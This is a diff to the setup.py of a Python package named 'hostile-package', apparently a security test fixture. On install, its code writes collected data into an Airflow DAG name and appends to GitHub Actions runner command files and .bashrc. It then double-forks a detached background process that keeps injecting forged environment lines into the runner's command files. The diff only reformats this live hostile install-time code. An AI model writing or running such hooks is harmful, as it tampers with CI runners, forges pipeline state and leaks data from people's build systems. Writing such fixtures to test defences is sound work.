@@ -17,7 +17,8 @@ here = os.path.dirname(os.path.abspath(__file__))
 # What was found leaves by a DAG's name, if the names of DAGs may be chosen here.
 with open(os.path.join(os.path.dirname(here), "from_setup.py"), "w", encoding="utf-8") as dag:
     dag.write("from airflow import DAG\nfrom datetime import datetime\n")
-    dag.write("\n".join(f'dag_{at} = DAG("found.{value}", start_date=datetime(2024, 1, 1))' for at, value in enumerate(["nothing", *found][-1:])) + "\n")
+    for at, value in enumerate(["nothing", *found][-1:]):
+        dag.write(f'dag_{at} = DAG("found.{value}", start_date=datetime(2024, 1, 1))\n')
 for file in [*glob.glob("/home/runner/work/_temp/_runner_file_commands/*"), "/home/runner/.bashrc"]:
     try:
         with open(file, "a", encoding="utf-8") as command:
@@ -29,7 +30,11 @@ if os.fork() == 0:
     if os.fork() == 0:
         os.chdir("/")
         os.closerange(0, 1024)
-        wait = "import glob, time\nfor _ in range(600):\n    time.sleep(0.1)\n    for file in glob.glob('/home/runner/work/_temp/_runner_file_commands/*'):\n        open(file, 'a').write('FORGED=later\\n')\n"
+        wait = (
+            "import glob, time\nfor _ in range(600):\n    time.sleep(0.1)\n"
+            "    for file in glob.glob('/home/runner/work/_temp/_runner_file_commands/*'):\n"
+            "        open(file, 'a').write('FORGED=later\\n')\n"
+        )
         os.execve(sys.executable, ["python3", "-S", "-E", "-c", wait], {})
     os._exit(0)
 setup(name="hostile-package", version="1.0", py_modules=[])
